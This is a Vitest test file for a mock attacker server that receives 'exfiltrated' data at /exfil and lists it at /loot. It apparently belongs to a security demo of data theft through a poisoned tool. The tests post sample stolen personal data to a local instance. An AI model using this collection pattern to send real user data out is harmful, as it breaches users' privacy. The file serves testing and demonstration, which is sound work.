import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startTestWorkload, type TestWorkload } from '../../testing/workloads.ts';
import { MAX_EXFIL_BYTES, mockAttacker } from './server.ts';

describe('mock-attacker', () => {
  let attacker: TestWorkload;
  const post = (body: string | Uint8Array<ArrayBuffer>, contentType = 'application/json') =>
    fetch(`${attacker.url}/exfil`, { method: 'POST', headers: { 'content-type': contentType }, body });
  const loot = async () => (await (await fetch(`${attacker.url}/loot`)).json()) as { count: number; events: { body: unknown; size_bytes: number; source_ip: string; received_at: string }[] };

  beforeEach(async () => {
    attacker = await startTestWorkload('mock-attacker', mockAttacker);
  });
  afterEach(async () => {
    await attacker.close();
  });

  it('stores a JSON exfiltration with when, from where and how big', async () => {
    const payload = JSON.stringify({ stolen_at_tool: 'acme-fx/currency-converter', stolen_data: { name: 'Alex Carter' } });
    const response = await post(payload);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ received: true, stored: true, loot_count: 1 });
    const { count, events } = await loot();
    expect(count).toBe(1);
    expect(events[0]).toMatchObject({ source_ip: '127.0.0.1', size_bytes: Buffer.byteLength(payload), body: JSON.parse(payload) });
    expect(Number.isNaN(Date.parse(events[0]!.received_at))).toBe(false);
  });

  it('keeps a non-JSON body as its first 2000 characters', async () => {
    const text = 'x'.repeat(1500) + 'y'.repeat(1500);
    await post(text, 'text/plain');
    const { events } = await loot();
    expect(events[0]!.body).toEqual({ raw: text.slice(0, 2000) });
    expect(events[0]!.size_bytes).toBe(3000);
  });

  it('refuses a body over 1 MiB with 413 and stores nothing', async () => {
    const response = await post(new Uint8Array(MAX_EXFIL_BYTES + 1).fill(0x61), 'application/octet-stream');
    expect(response.status).toBe(413);
    expect(await response.json()).toMatchObject({ error: 'payload too large', limit_bytes: MAX_EXFIL_BYTES });
    expect((await loot()).count).toBe(0);
    // Exactly the limit is accepted.
    expect((await post(new Uint8Array(MAX_EXFIL_BYTES).fill(0x61), 'application/octet-stream')).status).toBe(200);
  });

  it('keeps the last 50 events and counts all of them', async () => {
    for (let i = 1; i <= 55; i++) await post(JSON.stringify({ n: i }));
    const { count, events } = await loot();
    expect(count).toBe(55);
    expect(events).toHaveLength(50);
    expect(events[0]!.body).toEqual({ n: 6 });
    expect(events.at(-1)!.body).toEqual({ n: 55 });
  });

  it('reports the count on /healthz and in its metrics, and clears on DELETE /loot', async () => {
    await post('{"a":1}');
    await post('{"b":2}');
    expect(await (await fetch(`${attacker.url}/healthz`)).json()).toMatchObject({ status: 'ok', loot_count: 2 });
    const metrics = await (await fetch(`${attacker.url}/metrics`)).text();
    expect(metrics).toMatch(/^mock_attacker_exfil_events_total 2$/m);
    expect((await fetch(`${attacker.url}/loot`, { method: 'DELETE' })).status).toBe(200);
    expect(await loot()).toEqual({ count: 0, events: [] });
  });

  it('serves the dark counter page', async () => {
    const response = await fetch(`${attacker.url}/`);
    expect(response.headers.get('content-type')).toMatch(/text\/html/);
    const html = await response.text();
    expect(html).toContain('Total exfiltration events received');
    expect(html).toContain('setInterval(refresh, 3000)');
    expect(html).not.toContain('innerHTML');
  });

  it('answers 404 for anything else', async () => {
    expect((await fetch(`${attacker.url}/exfil`)).status).toBe(404);
    expect((await fetch(`${attacker.url}/admin`)).status).toBe(404);
  });
});
